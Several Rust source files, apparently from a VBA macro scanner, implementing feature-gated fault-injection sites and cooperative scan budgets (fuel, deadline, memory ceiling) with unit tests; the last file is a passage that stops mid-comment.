//!   optional window suffix `@NxM` bounds the armed span to `M` hits
//!   (`abort@5x3` fires on hits 5–7 and then disarms), so a harness can
//!   inject a deterministic failure burst and observe the recovery that
//!   follows.
//! - `P%` prefix — fire with probability `P` percent per armed hit, driven
//!   by a per-site xorshift generator seeded from `VBADET_FAULTPOINT_SEED`
//!   (default `0x5EED`), so probabilistic runs replay bit-for-bit under a
//!   fixed seed.
//!
//! Configuration is programmatic ([`configure`] / [`remove`] / [`clear`])
//! or environment-driven: `VBADET_FAULTPOINTS="site=spec;site2=spec2"` is
//! parsed once, on the first site hit.
//!
//! ```
//! # #[cfg(feature = "faultpoints")] {
//! vbadet_faultpoint::configure("demo::site", "return(42)@2").unwrap();
//! assert_eq!(vbadet_faultpoint::fire("demo::site"), None);           // hit 1
//! assert_eq!(vbadet_faultpoint::fire("demo::site"), Some("42".into())); // hit 2
//! vbadet_faultpoint::clear();
//! # }
//! ```

/// Marks a fault-injection site.
///
/// `faultpoint!("name")` may panic or stall when so configured; a
/// configured `return` action is ignored. `faultpoint!("name", expr)`
/// additionally makes the enclosing function `return expr` on a `return`
/// action, and `faultpoint!("name", |arg| expr)` gives the expression
/// access to the action's string argument.
#[macro_export]
macro_rules! faultpoint {
    ($name:expr) => {{
        let _ = $crate::fire($name);
    }};
    ($name:expr, |$arg:ident| $ret:expr) => {
        if let Some($arg) = $crate::fire($name) {
            return $ret;
        }
    };
    ($name:expr, $ret:expr) => {
        if $crate::fire($name).is_some() {
            return $ret;
        }
    };
}

/// Evaluates the site `name`: a no-op `None` unless the `faultpoints`
/// feature is enabled and the site is armed. Panics and sleeps happen
/// inside; a `return` action yields `Some(arg)`.
#[cfg(not(feature = "faultpoints"))]
#[inline(always)]
pub fn fire(_name: &str) -> Option<String> {
    None
}

#[cfg(feature = "faultpoints")]
pub use enabled::fire;
#[cfg(feature = "faultpoints")]
pub use enabled::{clear, configure, hit_count, remove};

#[cfg(feature = "faultpoints")]
mod enabled {
    use std::collections::HashMap;
    use std::sync::{Mutex, MutexGuard, Once, OnceLock};

    #[derive(Debug, Clone, PartialEq, Eq)]
    enum Action {
        Off,
        Panic(String),
        Sleep(u64),
        Return(String),
        Abort,
    }

    #[derive(Debug)]
    struct Site {
        action: Action,
        /// First 1-based hit on which the action is armed.
        from_hit: u64,
        /// First hit past the armed window (exclusive), from `@NxM`;
        /// `None` keeps the site armed forever.
        until_hit: Option<u64>,
        /// Fire probability in percent (100 = always).
        prob_pct: u8,
        /// Per-site deterministic RNG state (for `prob_pct < 100`).
        rng: u64,
        hits: u64,
    }

    fn registry() -> MutexGuard<'static, HashMap<String, Site>> {
        static REGISTRY: OnceLock<Mutex<HashMap<String, Site>>> = OnceLock::new();
        // A site that panics by design must not poison the registry for
        // every later test; recover the guard.
        match REGISTRY.get_or_init(|| Mutex::new(HashMap::new())).lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    fn env_seed() -> u64 {
        std::env::var("VBADET_FAULTPOINT_SEED")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(0x5EED)
    }

    /// Splitmix-style site seed: stable per (seed, name).
    fn site_seed(name: &str) -> u64 {
        let mut h = env_seed() ^ 0x9E37_79B9_7F4A_7C15;
        for b in name.bytes() {
            h = (h ^ b as u64).wrapping_mul(0x100_0000_01B3);
        }
        h | 1
    }

    fn parse_spec(name: &str, spec: &str) -> Result<Site, String> {
        let spec = spec.trim();
        let (prob_pct, rest) = match spec.find('%') {
            Some(i) if spec[..i].chars().all(|c| c.is_ascii_digit()) && i > 0 => {
                let pct: u8 = spec[..i]
                    .parse()
                    .map_err(|_| format!("bad probability in {spec:?}"))?;
                (pct.min(100), &spec[i + 1..])
            }
            _ => (100u8, spec),
        };
        let (rest, from_hit, window) = match rest.rsplit_once('@') {
            Some((head, tail)) => {
                // `@N` or `@NxM`: arm from hit N, optionally for M hits.
                let (n, window) = match tail.split_once('x') {
                    Some((n, m)) => {
                        let m: u64 = m
                            .parse()
                            .map_err(|_| format!("bad window length in {spec:?}"))?;
                        if m == 0 {
                            return Err(format!("zero-length window in {spec:?}"));
                        }
                        (n, Some(m))
                    }
                    None => (tail, None),
                };
                let n: u64 = n
                    .parse()
                    .map_err(|_| format!("bad hit count in {spec:?}"))?;
                (head, n.max(1), window)
            }
            None => (rest, 1, None),
        };
        let (verb, arg) = match rest.split_once('(') {
            Some((verb, tail)) => {
                let arg = tail
                    .strip_suffix(')')
                    .ok_or_else(|| format!("unclosed argument in {spec:?}"))?;
                (verb, Some(arg.to_string()))
            }
            None => (rest, None),
        };
        let action = match verb {
            "off" => Action::Off,
            "panic" => Action::Panic(arg.unwrap_or_else(|| "injected fault".to_string())),
            "sleep" => Action::Sleep(
                arg.ok_or_else(|| format!("sleep needs a duration in {spec:?}"))?
                    .parse()
                    .map_err(|_| format!("bad sleep duration in {spec:?}"))?,
            ),
            "return" => Action::Return(arg.unwrap_or_default()),
            "abort" => {
                if arg.is_some() {
                    return Err(format!("abort takes no argument in {spec:?}"));
                }
                Action::Abort
            }
            other => return Err(format!("unknown faultpoint action {other:?} in {spec:?}")),
        };
        Ok(Site {
            action,
            from_hit,
            until_hit: window.map(|m| from_hit.saturating_add(m)),
            prob_pct,
            rng: site_seed(name),
            hits: 0,
        })
    }

    fn init_from_env() {
        static INIT: Once = Once::new();
        INIT.call_once(|| {
            let Ok(config) = std::env::var("VBADET_FAULTPOINTS") else {
                return;
            };
            for item in config.split(';').filter(|s| !s.trim().is_empty()) {
                let Some((name, spec)) = item.split_once('=') else {
                    eprintln!("VBADET_FAULTPOINTS: ignoring malformed entry {item:?}");
                    continue;
                };
                if let Err(e) = configure(name.trim(), spec) {
                    eprintln!("VBADET_FAULTPOINTS: {e}");
                }
            }
        });
    }

    /// Arms the site `name` with the given spec (see the module docs for
    /// the grammar). Replaces any previous spec and resets the hit count.
    ///
    /// # Errors
    ///
    /// Returns a description of the parse failure; the site is unchanged.
    pub fn configure(name: &str, spec: &str) -> Result<(), String> {
        let site = parse_spec(name, spec)?;
        registry().insert(name.to_string(), site);
        Ok(())
    }

    /// Disarms one site.
    pub fn remove(name: &str) {
        registry().remove(name);
    }

    /// Disarms every site and resets all hit counts.
    pub fn clear() {
        registry().clear();
    }

    /// How many times the site has been hit since it was configured.
    pub fn hit_count(name: &str) -> u64 {
        registry().get(name).map_or(0, |s| s.hits)
    }

    /// See the crate-level no-op twin for the contract.
    pub fn fire(name: &str) -> Option<String> {
        init_from_env();
        // Decide under the lock, act after releasing it: a panicking or
        // sleeping site must not hold the registry hostage.
        let action = {
            let mut reg = registry();
            let site = reg.get_mut(name)?;
            site.hits += 1;
            if site.hits < site.from_hit {
                return None;
            }
            if site.until_hit.is_some_and(|until| site.hits >= until) {
                return None;
            }
            if site.prob_pct < 100 {
                site.rng ^= site.rng << 13;
                site.rng ^= site.rng >> 7;
                site.rng ^= site.rng << 17;
                if (site.rng % 100) as u8 >= site.prob_pct {
                    return None;
                }
            }
            site.action.clone()
        };
        match action {
            Action::Off => None,
            Action::Panic(msg) => panic!("faultpoint {name}: {msg}"),
            Action::Sleep(ms) => {
                std::thread::sleep(std::time::Duration::from_millis(ms));
                None
            }
            Action::Return(arg) => Some(arg),
            Action::Abort => std::process::abort(),
        }
    }

    #[cfg(test)]
    mod tests {
        use super::*;
        use std::sync::Mutex as StdMutex;

        /// The registry is process-global; serialize tests touching it.
        static TEST_LOCK: StdMutex<()> = StdMutex::new(());

        fn locked() -> std::sync::MutexGuard<'static, ()> {
            match TEST_LOCK.lock() {
                Ok(g) => g,
                Err(p) => p.into_inner(),
            }
        }

        #[test]
        fn unconfigured_sites_are_silent() {
            let _g = locked();
            clear();
            assert_eq!(fire("nothing::here"), None);
        }

        #[test]
        fn return_action_fires_from_nth_hit() {
            let _g = locked();
            clear();
            configure("t::ret", "return(abc)@3").unwrap();
            assert_eq!(fire("t::ret"), None);
            assert_eq!(fire("t::ret"), None);
            assert_eq!(fire("t::ret"), Some("abc".to_string()));
            assert_eq!(fire("t::ret"), Some("abc".to_string()));
            assert_eq!(hit_count("t::ret"), 4);
            clear();
        }

        #[test]
        fn panic_action_panics_with_message() {
            let _g = locked();
            clear();
            configure("t::boom", "panic(kaboom)").unwrap();
            let err = std::panic::catch_unwind(|| fire("t::boom")).unwrap_err();
            let msg = err.downcast_ref::<String>().cloned().unwrap_or_default();
            assert!(msg.contains("kaboom"), "got {msg:?}");
            clear();
        }

        #[test]
        fn probabilistic_sites_replay_deterministically() {
            let _g = locked();
            clear();
            let run = || -> Vec<bool> {
                configure("t::prob", "50%return").unwrap();
                let v = (0..64).map(|_| fire("t::prob").is_some()).collect();
                remove("t::prob");
                v
            };
            let a = run();
            let b = run();
            assert_eq!(a, b);
            assert!(
                a.iter().any(|&x| x) && a.iter().any(|&x| !x),
                "50% should mix"
            );
            clear();
        }

        #[test]
        fn bad_specs_are_rejected() {
            let _g = locked();
            assert!(parse_spec("s", "explode").is_err());
            assert!(parse_spec("s", "sleep").is_err());
            assert!(parse_spec("s", "sleep(abc)").is_err());
            assert!(parse_spec("s", "panic(unclosed").is_err());
            assert!(parse_spec("s", "panic@x").is_err());
            assert!(parse_spec("s", "abort(now)").is_err());
            assert!(parse_spec("s", "abort@3x0").is_err());
            assert!(parse_spec("s", "abort@3xq").is_err());
            assert!(parse_spec("s", "abort@x2").is_err());
        }

        #[test]
        fn window_modifier_fires_for_exactly_m_hits() {
            let _g = locked();
            clear();
            configure("t::win", "return(hit)@3x2").unwrap();
            let fired: Vec<bool> = (0..6).map(|_| fire("t::win").is_some()).collect();
            assert_eq!(fired, [false, false, true, true, false, false]);
            assert_eq!(hit_count("t::win"), 6);
            clear();
        }

        #[test]
        fn window_without_at_offset_starts_at_first_hit() {
            let _g = locked();
            clear();
            configure("t::win1", "return@1x3").unwrap();
            let fired: Vec<bool> = (0..5).map(|_| fire("t::win1").is_some()).collect();
            assert_eq!(fired, [true, true, true, false, false]);
            clear();
        }

        #[test]
        fn abort_spec_parses() {
            let _g = locked();
            let site = parse_spec("s", "abort@7").unwrap();
            assert_eq!(site.action, Action::Abort);
            assert_eq!(site.from_hit, 7);
        }

        #[test]
        fn macro_forms_compile_and_return() {
            let _g = locked();
            clear();
            configure("t::macro", "return(7)").unwrap();
            fn site() -> u32 {
                crate::faultpoint!("t::macro", |arg| arg.parse().unwrap_or(0));
                0
            }
            assert_eq!(site(), 7);
            clear();
            assert_eq!(site(), 0);
        }
    }
}
