//! Resilience primitives for the scanning stack.
//!
//! Two independent facilities share this crate because every container
//! layer needs both and neither may depend on the scanning stack itself:
//!
//! - [`Budget`]: a cheap cooperative cancellation token — a fuel counter
//!   plus a wall-clock deadline — threaded through the hot loops of the
//!   ZIP, OLE and MS-OVBA parsers alongside their resource limits. A
//!   pathological-but-acyclic document (one that respects every size cap
//!   yet forces superlinear work) trips the budget instead of stalling a
//!   worker. Breaches surface as [`BudgetExceeded`], which each parser
//!   wraps in its own typed `DeadlineExceeded` error variant.
//!
//! - [`faultpoint!`]: deterministic fault injection in the style of the
//!   classic failpoints pattern. Sites are named no-ops in production
//!   builds; with the `faultpoints` feature enabled they consult a global
//!   registry (configured programmatically or via the
//!   `VBADET_FAULTPOINTS` environment variable) and can panic, stall,
//!   or make the enclosing function return early — which is how the
//!   integration suite proves the degradation ladder, timeout and
//!   crash-resume paths without real hostile hardware.
//!
//! # Budget example
//!
//! ```
//! use vbadet_faultpoint::{Budget, BudgetExceeded};
//!
//! let budget = Budget::with_fuel(10);
//! for _ in 0..10 {
//!     budget.charge(1).unwrap();
//! }
//! assert_eq!(budget.charge(1), Err(BudgetExceeded::Fuel));
//! // Once tripped, a budget stays tripped (ladder rungs sharing it fail fast).
//! assert_eq!(budget.charge(0), Err(BudgetExceeded::Fuel));
//!
//! let unlimited = Budget::unlimited();
//! assert!(unlimited.charge(u64::MAX).is_ok());
//! ```

mod budget;
mod fault;

pub use budget::{Budget, BudgetExceeded};
pub use fault::fire;
#[cfg(feature = "faultpoints")]
pub use fault::{clear, configure, hit_count, remove};
