//! Cooperative scan budgets: fuel + wall-clock deadline.

use std::error::Error;
use std::fmt;
use std::sync::atomic::{AtomicU32, AtomicU64, AtomicU8, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use vbadet_metrics::MetricsSink;

/// How many charges pass between wall-clock reads. `Instant::now()` costs
/// tens of nanoseconds; one fuel unit represents roughly a kilobyte of
/// parsing work, so checking every 64th charge bounds deadline overshoot
/// to ~64 KiB of work while keeping the clean-path overhead to a couple
/// of branches per charge.
const CLOCK_PERIOD: u32 = 64;

/// Why a [`Budget`] refused further work.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BudgetExceeded {
    /// The wall-clock deadline passed.
    Deadline,
    /// The fuel allowance was spent.
    Fuel,
    /// The per-scan memory ceiling was crossed (see [`Budget::new_guarded`]).
    Memory,
}

impl fmt::Display for BudgetExceeded {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BudgetExceeded::Deadline => write!(f, "wall-clock deadline exceeded"),
            BudgetExceeded::Fuel => write!(f, "fuel budget exhausted"),
            BudgetExceeded::Memory => write!(f, "memory ceiling exceeded"),
        }
    }
}

impl Error for BudgetExceeded {}

/// `tripped` encoding: the breach reason as a small atomic.
const TRIP_NONE: u8 = 0;
const TRIP_DEADLINE: u8 = 1;
const TRIP_FUEL: u8 = 2;
const TRIP_MEMORY: u8 = 3;

fn decode_trip(raw: u8) -> Option<BudgetExceeded> {
    match raw {
        TRIP_DEADLINE => Some(BudgetExceeded::Deadline),
        TRIP_FUEL => Some(BudgetExceeded::Fuel),
        TRIP_MEMORY => Some(BudgetExceeded::Memory),
        _ => None,
    }
}

fn encode_trip(why: BudgetExceeded) -> u8 {
    match why {
        BudgetExceeded::Deadline => TRIP_DEADLINE,
        BudgetExceeded::Fuel => TRIP_FUEL,
        BudgetExceeded::Memory => TRIP_MEMORY,
    }
}

/// A cooperative memory guard: `probe` reports the process's current live
/// allocation (typically from a tracking global allocator); the budget
/// trips [`BudgetExceeded::Memory`] when growth over the baseline captured
/// at construction exceeds `ceiling` bytes.
#[derive(Debug, Clone, Copy)]
struct MemCeiling {
    probe: fn() -> u64,
    baseline: u64,
    ceiling: u64,
}

impl MemCeiling {
    fn breached(&self) -> bool {
        (self.probe)().saturating_sub(self.baseline) > self.ceiling
    }
}

#[derive(Debug)]
struct BudgetState {
    /// Absolute cut-off; `None` means no wall-clock bound.
    deadline: Option<Instant>,
    /// Remaining fuel units; only consulted when `metered`.
    fuel: AtomicU64,
    /// Whether fuel accounting is active.
    metered: bool,
    /// Optional live-allocation ceiling, probed on the same amortized
    /// cadence as the wall clock.
    mem: Option<MemCeiling>,
    /// Fast-path gate: false for unlimited budgets.
    active: bool,
    /// Charges remaining until the next wall-clock read.
    clock_countdown: AtomicU32,
    /// Sticky breach: once a budget trips, every later charge fails with
    /// the same reason, so degradation-ladder rungs sharing the budget
    /// fail fast instead of re-running to the deadline.
    tripped: AtomicU8,
    /// Observability handle riding along with the budget so every layer
    /// the budget already reaches (zip, ole, ovba, extract) can record
    /// counters without new plumbing. Disabled (free) by default.
    metrics: MetricsSink,
}

/// A cooperative cancellation token threaded through parser hot loops.
///
/// Cloning is cheap and clones **share** state (one allowance per
/// document, however many layers charge against it). One fuel unit
/// corresponds to roughly a kilobyte of parsing work — a sector read, an
/// MS-OVBA chunk, a kilobyte of inflated output — deliberately coarse so
/// the charge itself stays a few branches.
///
/// A `Budget` is `Send` and `Sync` (`Arc` + relaxed atomics): the parallel
/// batch engine mints one per document on whichever worker thread claims
/// it, and a budget handed across threads keeps metering the same shared
/// allowance. Scanning is still parallel across documents, never within
/// one, so the atomics are uncontended in practice.
#[derive(Debug, Clone)]
pub struct Budget(Arc<BudgetState>);

impl Default for Budget {
    fn default() -> Self {
        Budget::unlimited()
    }
}

impl Budget {
    fn build(deadline: Option<Instant>, fuel: Option<u64>, metrics: MetricsSink) -> Self {
        Budget::build_guarded(deadline, fuel, None, metrics)
    }

    fn build_guarded(
        deadline: Option<Instant>,
        fuel: Option<u64>,
        mem: Option<MemCeiling>,
        metrics: MetricsSink,
    ) -> Self {
        Budget(Arc::new(BudgetState {
            deadline,
            fuel: AtomicU64::new(fuel.unwrap_or(u64::MAX)),
            metered: fuel.is_some(),
            mem,
            active: deadline.is_some() || fuel.is_some() || mem.is_some(),
            clock_countdown: AtomicU32::new(CLOCK_PERIOD),
            tripped: AtomicU8::new(TRIP_NONE),
            metrics,
        }))
    }

    /// A budget that never trips. Charging it is a single branch.
    pub fn unlimited() -> Self {
        Budget::build(None, None, MetricsSink::disabled())
    }

    /// A budget bounded by wall-clock time only.
    pub fn with_deadline(limit: Duration) -> Self {
        Budget::build(Some(Instant::now() + limit), None, MetricsSink::disabled())
    }

    /// A budget bounded by fuel only.
    pub fn with_fuel(fuel: u64) -> Self {
        Budget::build(None, Some(fuel), MetricsSink::disabled())
    }

    /// A budget with optional deadline and optional fuel; `None, None` is
    /// [`Budget::unlimited`].
    pub fn new(deadline: Option<Duration>, fuel: Option<u64>) -> Self {
        Budget::build(
            deadline.map(|d| Instant::now() + d),
            fuel,
            MetricsSink::disabled(),
        )
    }

    /// As [`Budget::new`], additionally carrying a [`MetricsSink`] so the
    /// parser layers the budget traverses can record pipeline counters.
    pub fn new_metered(
        deadline: Option<Duration>,
        fuel: Option<u64>,
        metrics: MetricsSink,
    ) -> Self {
        Budget::build(deadline.map(|d| Instant::now() + d), fuel, metrics)
    }

    /// As [`Budget::new_metered`], additionally bounded by a memory
    /// ceiling: `mem` is a `(probe, ceiling_bytes)` pair where `probe`
    /// reports the process's current live allocation (from a tracking
    /// global allocator). The baseline is read at construction; once live
    /// allocation grows more than `ceiling_bytes` past it, charges fail
    /// with [`BudgetExceeded::Memory`]. Enforcement is cooperative — the
    /// probe is read on the same amortized cadence as the wall clock — so
    /// a single giant allocation is the caller's job to pre-check; what
    /// this catches is cumulative blowup across parsing loops.
    pub fn new_guarded(
        deadline: Option<Duration>,
        fuel: Option<u64>,
        mem: Option<(fn() -> u64, u64)>,
        metrics: MetricsSink,
    ) -> Self {
        let mem = mem.map(|(probe, ceiling)| MemCeiling {
            probe,
            baseline: probe(),
            ceiling,
        });
        Budget::build_guarded(deadline.map(|d| Instant::now() + d), fuel, mem, metrics)
    }

    /// The metrics handle riding with this budget (disabled unless the
    /// budget was built via [`Budget::new_metered`] with an enabled sink).
    #[inline]
    pub fn metrics(&self) -> &MetricsSink {
        &self.0.metrics
    }

    fn trip(&self, why: BudgetExceeded) -> BudgetExceeded {
        self.0.tripped.store(encode_trip(why), Ordering::Relaxed);
        why
    }

    /// Records `cost` units of work.
    ///
    /// # Errors
    ///
    /// Returns [`BudgetExceeded`] when the fuel allowance is spent or the
    /// wall-clock deadline has passed — and, stickily, on every charge
    /// after the first breach.
    #[inline]
    pub fn charge(&self, cost: u64) -> Result<(), BudgetExceeded> {
        let s = &*self.0;
        if !s.active {
            return Ok(());
        }
        if let Some(why) = decode_trip(s.tripped.load(Ordering::Relaxed)) {
            return Err(why);
        }
        if s.metered
            && s.fuel
                .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |fuel| {
                    fuel.checked_sub(cost)
                })
                .is_err()
        {
            s.fuel.store(0, Ordering::Relaxed);
            return Err(self.trip(BudgetExceeded::Fuel));
        }
        if s.deadline.is_some() || s.mem.is_some() {
            let countdown = s
                .clock_countdown
                .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |c| {
                    Some(if c <= 1 { CLOCK_PERIOD } else { c - 1 })
                })
                .unwrap_or(CLOCK_PERIOD);
            if countdown <= 1 {
                if let Some(deadline) = s.deadline {
                    if Instant::now() >= deadline {
                        return Err(self.trip(BudgetExceeded::Deadline));
                    }
                }
                if let Some(mem) = &s.mem {
                    if mem.breached() {
                        return Err(self.trip(BudgetExceeded::Memory));
                    }
                }
            }
        }
        Ok(())
    }

    /// Reads the wall clock *now* (ignoring the amortization countdown)
    /// and reports whether the budget is still good. Used at coarse
    /// boundaries — e.g. between degradation-ladder rungs — where an
    /// immediate answer matters more than the saved clock read.
    ///
    /// # Errors
    ///
    /// As [`Budget::charge`].
    pub fn checkpoint(&self) -> Result<(), BudgetExceeded> {
        let s = &*self.0;
        if !s.active {
            return Ok(());
        }
        if let Some(why) = decode_trip(s.tripped.load(Ordering::Relaxed)) {
            return Err(why);
        }
        if let Some(deadline) = s.deadline {
            if Instant::now() >= deadline {
                return Err(self.trip(BudgetExceeded::Deadline));
            }
        }
        if let Some(mem) = &s.mem {
            if mem.breached() {
                return Err(self.trip(BudgetExceeded::Memory));
            }
        }
        Ok(())
    }

    /// Whether this budget has already tripped (and on what).
    pub fn tripped(&self) -> Option<BudgetExceeded> {
        decode_trip(self.0.tripped.load(Ordering::Relaxed))
    }

    /// Whether this budget can ever trip.
    pub fn is_unlimited(&self) -> bool {
        !self.0.active
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unlimited_never_trips() {
        let b = Budget::unlimited();
        for _ in 0..10_000 {
            b.charge(u64::MAX).unwrap();
        }
        b.checkpoint().unwrap();
        assert!(b.is_unlimited());
        assert_eq!(b.tripped(), None);
    }

    #[test]
    fn fuel_is_spent_and_sticky() {
        let b = Budget::with_fuel(100);
        assert!(b.charge(60).is_ok());
        assert!(b.charge(40).is_ok());
        assert_eq!(b.charge(1), Err(BudgetExceeded::Fuel));
        // Sticky: even a free charge now fails.
        assert_eq!(b.charge(0), Err(BudgetExceeded::Fuel));
        assert_eq!(b.checkpoint(), Err(BudgetExceeded::Fuel));
        assert_eq!(b.tripped(), Some(BudgetExceeded::Fuel));
    }

    #[test]
    fn clones_share_one_allowance() {
        let a = Budget::with_fuel(10);
        let b = a.clone();
        for _ in 0..10 {
            a.charge(1).unwrap();
        }
        assert_eq!(b.charge(1), Err(BudgetExceeded::Fuel));
    }

    #[test]
    fn budget_is_send_and_sync() {
        // The parallel batch engine mints budgets on worker threads; the
        // compiler must agree they may cross (and be shared across)
        // thread boundaries.
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<Budget>();
    }

    #[test]
    fn clones_share_one_allowance_across_threads() {
        let a = Budget::with_fuel(1000);
        let b = a.clone();
        std::thread::spawn(move || {
            for _ in 0..600 {
                let _ = b.charge(1);
            }
        })
        .join()
        .unwrap();
        for _ in 0..400 {
            a.charge(1).unwrap();
        }
        assert_eq!(a.charge(1), Err(BudgetExceeded::Fuel));
    }

    #[test]
    fn expired_deadline_trips_within_one_clock_period() {
        let b = Budget::with_deadline(Duration::from_millis(0));
        std::thread::sleep(Duration::from_millis(2));
        let mut tripped = false;
        for _ in 0..(CLOCK_PERIOD as usize + 1) {
            if b.charge(1).is_err() {
                tripped = true;
                break;
            }
        }
        assert!(
            tripped,
            "deadline breach must surface within CLOCK_PERIOD charges"
        );
        assert_eq!(b.tripped(), Some(BudgetExceeded::Deadline));
    }

    #[test]
    fn checkpoint_sees_expired_deadline_immediately() {
        let b = Budget::with_deadline(Duration::from_millis(0));
        std::thread::sleep(Duration::from_millis(2));
        assert_eq!(b.checkpoint(), Err(BudgetExceeded::Deadline));
    }

    #[test]
    fn metered_budget_carries_its_sink_through_clones() {
        use vbadet_metrics::Counter;
        let sink = MetricsSink::enabled();
        let a = Budget::new_metered(None, Some(100), sink.clone());
        let b = a.clone();
        a.metrics().count(Counter::OleSectors, 2);
        b.metrics().count(Counter::OleSectors, 3);
        assert_eq!(sink.snapshot().unwrap().counter("ole.sectors"), 5);
        // Plain constructors carry a disabled sink.
        assert!(!Budget::unlimited().metrics().is_enabled());
        assert!(!Budget::with_fuel(1).metrics().is_enabled());
    }

    #[test]
    fn memory_ceiling_trips_and_sticks() {
        static LIVE: AtomicU64 = AtomicU64::new(0);
        fn probe() -> u64 {
            LIVE.load(Ordering::Relaxed)
        }
        LIVE.store(1_000, Ordering::Relaxed);
        let b = Budget::new_guarded(None, None, Some((probe, 500)), MetricsSink::disabled());
        assert!(!b.is_unlimited());
        // Growth within the ceiling: fine, even past CLOCK_PERIOD charges.
        LIVE.store(1_400, Ordering::Relaxed);
        for _ in 0..(2 * CLOCK_PERIOD as usize) {
            b.charge(1).unwrap();
        }
        b.checkpoint().unwrap();
        // Growth beyond baseline + ceiling: checkpoint sees it at once,
        // and the trip is sticky.
        LIVE.store(1_501, Ordering::Relaxed);
        assert_eq!(b.checkpoint(), Err(BudgetExceeded::Memory));
        LIVE.store(0, Ordering::Relaxed);
        assert_eq!(b.charge(0), Err(BudgetExceeded::Memory));
        assert_eq!(b.tripped(), Some(BudgetExceeded::Memory));
    }

    #[test]
    fn memory_breach_surfaces_within_one_clock_period_of_charges() {
        static LIVE: AtomicU64 = AtomicU64::new(0);
        fn probe() -> u64 {
            LIVE.load(Ordering::Relaxed)
        }
        LIVE.store(0, Ordering::Relaxed);
        let b = Budget::new_guarded(None, None, Some((probe, 100)), MetricsSink::disabled());
        LIVE.store(10_000, Ordering::Relaxed);
        let mut tripped = false;
        for _ in 0..(CLOCK_PERIOD as usize + 1) {
            if b.charge(1) == Err(BudgetExceeded::Memory) {
                tripped = true;
                break;
            }
        }
        assert!(
            tripped,
            "memory breach must surface within CLOCK_PERIOD charges"
        );
    }

    #[test]
    fn generous_deadline_does_not_trip() {
        let b = Budget::new(Some(Duration::from_secs(3600)), Some(1_000_000));
        for _ in 0..1000 {
            b.charge(1).unwrap();
        }
        assert_eq!(b.tripped(), None);
    }
}
