//! Cooperative scan budgets: fuel + wall-clock deadline.

use std::cell::Cell;
use std::error::Error;
use std::fmt;
use std::rc::Rc;
use std::time::{Duration, Instant};

/// How many charges pass between wall-clock reads. `Instant::now()` costs
/// tens of nanoseconds; one fuel unit represents roughly a kilobyte of
/// parsing work, so checking every 64th charge bounds deadline overshoot
/// to ~64 KiB of work while keeping the clean-path overhead to a couple
/// of branches per charge.
const CLOCK_PERIOD: u32 = 64;

/// Why a [`Budget`] refused further work.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BudgetExceeded {
    /// The wall-clock deadline passed.
    Deadline,
    /// The fuel allowance was spent.
    Fuel,
}

impl fmt::Display for BudgetExceeded {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BudgetExceeded::Deadline => write!(f, "wall-clock deadline exceeded"),
            BudgetExceeded::Fuel => write!(f, "fuel budget exhausted"),
        }
    }
}

impl Error for BudgetExceeded {}

#[derive(Debug)]
struct BudgetState {
    /// Absolute cut-off; `None` means no wall-clock bound.
    deadline: Option<Instant>,
    /// Remaining fuel units; only consulted when `metered`.
    fuel: Cell<u64>,
    /// Whether fuel accounting is active.
    metered: bool,
    /// Fast-path gate: false for unlimited budgets.
    active: bool,
    /// Charges remaining until the next wall-clock read.
    clock_countdown: Cell<u32>,
    /// Sticky breach: once a budget trips, every later charge fails with
    /// the same reason, so degradation-ladder rungs sharing the budget
    /// fail fast instead of re-running to the deadline.
    tripped: Cell<Option<BudgetExceeded>>,
}

/// A cooperative cancellation token threaded through parser hot loops.
///
/// Cloning is cheap and clones **share** state (one allowance per
/// document, however many layers charge against it). One fuel unit
/// corresponds to roughly a kilobyte of parsing work — a sector read, an
/// MS-OVBA chunk, a kilobyte of inflated output — deliberately coarse so
/// the charge itself stays a few branches.
///
/// A `Budget` is single-threaded by design (`Rc` + `Cell`): scanning is
/// parallel across documents, never within one.
#[derive(Debug, Clone)]
pub struct Budget(Rc<BudgetState>);

impl Default for Budget {
    fn default() -> Self {
        Budget::unlimited()
    }
}

impl Budget {
    fn build(deadline: Option<Instant>, fuel: Option<u64>) -> Self {
        Budget(Rc::new(BudgetState {
            deadline,
            fuel: Cell::new(fuel.unwrap_or(u64::MAX)),
            metered: fuel.is_some(),
            active: deadline.is_some() || fuel.is_some(),
            clock_countdown: Cell::new(CLOCK_PERIOD),
            tripped: Cell::new(None),
        }))
    }

    /// A budget that never trips. Charging it is a single branch.
    pub fn unlimited() -> Self {
        Budget::build(None, None)
    }

    /// A budget bounded by wall-clock time only.
    pub fn with_deadline(limit: Duration) -> Self {
        Budget::build(Some(Instant::now() + limit), None)
    }

    /// A budget bounded by fuel only.
    pub fn with_fuel(fuel: u64) -> Self {
        Budget::build(None, Some(fuel))
    }

    /// A budget with optional deadline and optional fuel; `None, None` is
    /// [`Budget::unlimited`].
    pub fn new(deadline: Option<Duration>, fuel: Option<u64>) -> Self {
        Budget::build(deadline.map(|d| Instant::now() + d), fuel)
    }

    /// Records `cost` units of work.
    ///
    /// # Errors
    ///
    /// Returns [`BudgetExceeded`] when the fuel allowance is spent or the
    /// wall-clock deadline has passed — and, stickily, on every charge
    /// after the first breach.
    #[inline]
    pub fn charge(&self, cost: u64) -> Result<(), BudgetExceeded> {
        let s = &*self.0;
        if !s.active {
            return Ok(());
        }
        if let Some(why) = s.tripped.get() {
            return Err(why);
        }
        if s.metered {
            let fuel = s.fuel.get();
            if fuel < cost {
                s.fuel.set(0);
                s.tripped.set(Some(BudgetExceeded::Fuel));
                return Err(BudgetExceeded::Fuel);
            }
            s.fuel.set(fuel - cost);
        }
        if let Some(deadline) = s.deadline {
            let countdown = s.clock_countdown.get();
            if countdown <= 1 {
                s.clock_countdown.set(CLOCK_PERIOD);
                if Instant::now() >= deadline {
                    s.tripped.set(Some(BudgetExceeded::Deadline));
                    return Err(BudgetExceeded::Deadline);
                }
            } else {
                s.clock_countdown.set(countdown - 1);
            }
        }
        Ok(())
    }

    /// Reads the wall clock *now* (ignoring the amortization countdown)
    /// and reports whether the budget is still good. Used at coarse
    /// boundaries — e.g. between degradation-ladder rungs — where an
